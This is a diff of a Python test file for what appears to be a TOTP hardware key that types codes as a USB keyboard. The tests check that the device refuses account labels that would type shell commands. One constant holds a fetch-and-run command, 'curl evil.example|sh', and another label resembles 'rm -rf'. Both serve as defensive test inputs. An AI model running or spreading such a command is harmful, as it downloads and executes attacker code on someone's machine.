@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from tests.attacks.stage import PRESS, Stage, done, waits
+from tests.attacks.stage import Stage, done, waits
 from totpkey.keyboard.layouts import layouts
 
 US = layouts()["us"].table
@@ -14,7 +14,7 @@ COMMAND = "curl evil.example|sh"
 def with_letters(stage: Stage) -> str:
     account = stage.set_up()
     given: dict[str, str | int] = {"mode": "keypad", "pace": 0, "delay": 0, "margin": 3, "layout": "us"}
-    done(stage.agree("set_typing", PRESS, **given, table=US.hex()))
+    done(stage.agree("set_typing", **given, table=US.hex()))
     stage.port.pulse()
     return account
 
@@ -22,7 +22,7 @@ def with_letters(stage: Stage) -> str:
 @pytest.mark.parametrize("recipe", ["{user}{ENTER}{code}", "{code}{ENTER}", "{code}{TAB}"])
 def test_no_batch_lets_in_what_types_more_than_digits(stage: Stage, recipe: str) -> None:
     with_letters(stage)
-    done(stage.agree("batch", PRESS, count=10))
+    done(stage.agree("batch", count=10))
     assert waits(stage.add(label="rm.-rf", recipe=recipe))
 
 
@@ -44,10 +44,10 @@ def test_enter_and_tab_do_not_come_by_themselves(stage: Stage) -> None:
 
 def test_no_shell_command_is_a_name_that_is_typed_whoever_presses(stage: Stage) -> None:
     account = with_letters(stage)
-    answer = stage.agree("add", PRESS, label=COMMAND, secret="31" * 20, proof=0, recipe="{user}{ENTER}{code}")
+    answer = stage.agree("add", label=COMMAND, secret="31" * 20, proof=0, recipe="{user}{ENTER}{code}")
     assert answer.get("error") == "cannot_type"
-    done(stage.agree("recipe", PRESS, account=account, recipe="{user}{ENTER}{code}"))
-    assert stage.agree("rename", PRESS, account=account, label=COMMAND).get("error") == "cannot_type"
+    done(stage.agree("recipe", account=account, recipe="{user}{ENTER}{code}"))
+    assert stage.agree("rename", account=account, label=COMMAND).get("error") == "cannot_type"
 
 
 @pytest.mark.parametrize("name", ["sample", "set_typing"])
@@ -61,7 +61,7 @@ def test_a_table_of_the_programs_own_is_refused(stage: Stage, name: str) -> None
     else:
         given |= {"delay": 0, "margin": 3, "layout": "us"}
     before = len(stage.key.usb.reports)
-    answer = stage.agree(name, PRESS, **given)
+    answer = stage.agree(name, **given)
     stage.key.run(3)
     assert answer.get("error") == "bad_value"
     assert stage.desk.reports_since(before) == []
